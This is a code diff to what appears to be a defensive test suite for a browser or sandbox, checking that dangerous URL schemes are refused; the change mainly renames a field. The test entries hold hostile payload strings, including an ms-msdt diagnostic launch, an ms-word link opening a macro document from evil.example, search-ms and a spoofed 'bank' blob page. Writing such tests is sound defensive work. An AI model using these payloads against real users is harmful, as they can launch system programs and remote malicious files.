@@ -33,7 +33,7 @@ export const schemes: Area = {
     {
       name: 'run a blob as a page',
       script: 'location = URL.createObjectURL(new Blob(["<h1>bank</h1>"], { type: "text/html" }))',
-      told: 'isn’t a web page',
+      message: 'isn’t a web page',
       mayEndItself: true
     },
     {
@@ -62,24 +62,28 @@ export const schemes: Area = {
       contained: 'The page becomes empty; our frame and the way out stay.',
       mayEndItself: true
     },
-    { name: 'start the mail program', script: 'location = "mailto:ana@example.com"', told: 'isn’t a web page' },
-    { name: 'start the telephone', script: 'location = "tel:+431234567"', told: 'isn’t a web page' },
+    { name: 'start the mail program', script: 'location = "mailto:ana@example.com"', message: 'isn’t a web page' },
+    { name: 'start the telephone', script: 'location = "tel:+431234567"', message: 'isn’t a web page' },
     {
       name: 'start a program of the system',
       script: 'location = "ms-msdt:/id%20PCWDiagnostic"',
-      told: 'isn’t a web page'
+      message: 'isn’t a web page'
     },
     {
       name: 'start an office program with a file of elsewhere',
       script: 'location = "ms-word:ofe|u|https://evil.example/a.docm"',
-      told: 'isn’t a web page'
+      message: 'isn’t a web page'
     },
-    { name: 'start a search that shows files of elsewhere', ...frame('search-ms:query=x'), told: 'isn’t a web page' },
+    {
+      name: 'start a search that shows files of elsewhere',
+      ...frame('search-ms:query=x'),
+      message: 'isn’t a web page'
+    },
     {
       name: 'start a program by opening a window',
       script: 'window.open("ms-settings:privacy")',
       guard: ['windows'],
-      told: 'isn’t a web page'
+      message: 'isn’t a web page'
     },
     {
       name: 'read a file of this computer',
@@ -93,7 +97,7 @@ export const schemes: Area = {
       answers: 'refused',
       guard: ['browser']
     },
-    { name: 'fetch by the old protocol', script: 'location = "ftp://{elsewhere}/"', told: 'isn’t a web page' },
+    { name: 'fetch by the old protocol', script: 'location = "ftp://{elsewhere}/"', message: 'isn’t a web page' },
     {
       name: 'hide a script behind a line break',
       script:
